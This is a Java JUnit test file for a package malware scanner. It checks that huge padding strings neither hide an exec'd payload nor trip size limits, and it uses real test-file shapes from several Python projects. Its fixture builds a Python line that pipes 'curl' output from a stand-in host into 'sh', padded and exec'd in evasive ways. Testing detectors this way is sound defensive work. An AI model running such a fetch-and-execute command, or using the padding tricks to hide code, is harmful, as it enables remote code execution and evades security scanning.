package dev.kingsnake.internal.decode;

import dev.kingsnake.DiagnosticCode;
import dev.kingsnake.Finding;
import dev.kingsnake.Limits;
import dev.kingsnake.ScanResult;
import dev.kingsnake.Scanner;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Strings longer than one decoding step may build ({@code maxDecodedBytesPerLayer}, 16 MiB by default): real tests
 * build them ({@code "-" * 50_000_000}), and so can a payload hide behind one. They are kept as runs
 * ({@link Value.Repeated}), so the first is no limit and the second is still read. Payloads are our own defanged
 * text (hosts under example.invalid).
 */
class RepeatedValuesTest {
    /** Python code built by concatenation: no decoding call and no literal holds it whole. */
    private static final String CODE = "code = 'import os\\n' + \"os.system('curl -s https://\" + 'example.invalid'"
            + " + \"/pad | sh')\"\n";

    @BeforeAll
    static void parserPresent() {
        DecodeFixturesTest.parserPresent();
    }

    private static ScanResult scan(String source) throws IOException {
        return DecodeLimitsTest.scan(Limits.defaults(), source.getBytes(StandardCharsets.UTF_8));
    }

    private static List<Finding> probes(ScanResult r) {
        return r.findings().stream().filter(f -> f.ruleId().equals("KS-TEST-PROBE")).toList();
    }

    private static boolean anyLimit(ScanResult r) {
        return r.diagnostics().stream().anyMatch(d -> d.code() == DiagnosticCode.LIMIT_EXCEEDED);
    }

    /** A padding longer than any layer before the code exec'd: the code is still the layer read. */
    @Test
    void codeAfterAHugePaddingIsStillRun() throws IOException {
        ScanResult r = scan(CODE + "exec('#' * 17_000_000 + '\\n' + code)\n");
        assertEquals(1, probes(r).size(), r::toString);
        assertFalse(anyLimit(r), r::toString);
        assertFalse(r.partial(), r::toString);
    }

    /** Slices, lengths, text codecs and repetition are computed on the runs, never built. */
    @Test
    void slicesAndCodecsOfAHugeStringReachTheCode() throws IOException {
        ScanResult r = scan(CODE
                + "pad = ' ' * 40_000_000\n"
                + "big = (pad + '\\n' + code + '\\n' + pad * 2).encode('utf-8')\n"
                + "exec(big[len(pad):len(pad) + 1 + len(code)].decode())\n");
        assertEquals(1, probes(r).size(), r::toString);
        assertFalse(r.partial(), r::toString);
    }

    /** The code behind a padding, handed to a new interpreter ({@code python -c}), is read too. */
    @Test
    void aHugeProgramOfAProcessIsReadCompacted() throws IOException {
        ScanResult r = scan("import subprocess\n" + CODE
                + "subprocess.run(['python3', '-c', '\\n' * 30_000_000 + code])\n");
        assertEquals(1, probes(r).size(), r::toString);
        assertFalse(r.partial(), r::toString);
    }

    /**
     * What a decoder must read whole (base64 of a 20 MB string) is still the size limit, reported once as that
     * (it used to be reported a second time as the step limit).
     */
    @Test
    void aHugeStringADecoderMustReadIsStillALimit() throws IOException {
        ScanResult r = scan("import base64\nexec(base64.b64decode('QUFB' * 5_000_000))\n");
        assertTrue(DecodeLimitsTest.limit(r.diagnostics(), "exceeds 16777216 bytes"), r::toString);
        assertFalse(DecodeLimitsTest.limit(r.diagnostics(), "step limit"), r::toString);
        assertTrue(r.partial(), r::toString);
        // %-formatting reads its tuple's items as constants: the huge one is the limit, not an unknown item
        ScanResult formatted = scan(CODE + "exec('%s\\n%s' % ('#' * 17_000_000, code))\n");
        assertTrue(DecodeLimitsTest.limit(formatted.diagnostics(), "exceeds 16777216 bytes"), formatted::toString);
        assertTrue(formatted.partial(), formatted::toString);
    }

    /**
     * The shapes of the test files that made five real repositories' sdists partial (awscli, datasets, distributed,
     * python-multipart, ujson): huge strings and lists handed to functions no decoder knows, a huge str encoded
     * and decoded, a huge body written to a parser.
     */
    @Test
    void hugeTestStringsAreNoLimit() throws IOException {
        ScanResult r = scan("""
                import pickle
                import ujson
                from distributed.protocol import dumps, to_serialize
                from datasets.table import InMemoryTable

                def test_large_messages():
                    x = "x" * 200_000_000
                    msg = {"x": [to_serialize(x), b"small_bytes"]}
                    b = dumps(msg)

                def test_stream(aws, get_stdout_encoding):
                    data = u'\\u00e9bcd' * (1024 * 1024 * 10)
                    data_encoded = data.encode('utf-8')
                    p = aws('s3 cp - s3://bucket/stream', input_data=data_encoded)
                    assert p.stdout == data_encoded.decode(get_stdout_encoding())

                def check_decode_decimal_no_int_overflow():
                    decoded = ujson.decode(r'[0.123456789,"{}"]'.format("a" * (2**32 - 5)))

                def test_data_after_last_boundary(f):
                    num = 50_000_000
                    data = (
                        "--boundary\\r\\n"
                        'Content-Disposition: form-data; name="file"; filename="filename.txt"\\r\\n'
                        "hello\\r\\n"
                        "--boundary--" + "-" * num + "\\r\\n"
                    )
                    f.write(data.encode("latin-1"))

                def test_pickle_big_table():
                    big_table_4GB = InMemoryTable.from_pydict({"col": [0] * ((4 * 8 << 30) // 64)})
                    big_table_4GB = pickle.dumps(big_table_4GB)
                    big_table_4GB = pickle.loads(big_table_4GB)
                """);
        assertFalse(anyLimit(r), r::toString);
        assertFalse(r.partial(), r::toString);
    }

    /**
     * werkzeug's {@code Client.run_wsgi_app} calls its module's function {@code run_wsgi_app} with
     * {@code self.application}; a test imports the function. Read without scopes, the method was a call of itself
     * whose first argument grew by one attribute each round ({@code inner.application.application...}), which the
     * recursion check could not tell from a new call, until the depth limit made the real sdist partial.
     */
    @Test
    void aMethodCallingTheFunctionOfItsNameIsNoLimit() throws IOException {
        String testing = """
                class Client:
                    def __init__(self, application):
                        self.application = application

                    def run_wsgi_app(self, environ, buffered=False):
                        rv = run_wsgi_app(self.application, environ, buffered=buffered)
                        return rv


                def run_wsgi_app(app, environ, buffered=False):
                    app_rv = app(environ, None)
                    return app_rv, "200 OK", []
                """;
        String test = """
                from demo.testing import run_wsgi_app


                def test_run_wsgi_app():
                    def inner(environ, start_response):
                        return ["x"]

                    app_iter, status, headers = run_wsgi_app(inner, {}, buffered=True)
                    assert "".join(app_iter) == "x"
                """;
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (String[] e : new String[][] {{"demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\n"
                    + "Version: 1.0\n"}, {"demo/__init__.py", ""}, {"demo/testing.py", testing},
                    {"demo/test_demo.py", test}}) {
                zip.putNextEntry(new ZipEntry(e[0]));
                zip.write(e[1].getBytes(StandardCharsets.UTF_8));
            }
        }
        ScanResult r = Scanner.builder().limits(Limits.defaults()).build()
                .scan("demo-1.0-py3-none-any.whl", new ByteArrayInputStream(bytes.toByteArray()));
        assertFalse(anyLimit(r), r::toString);
        assertFalse(r.partial(), r::toString);
    }
}
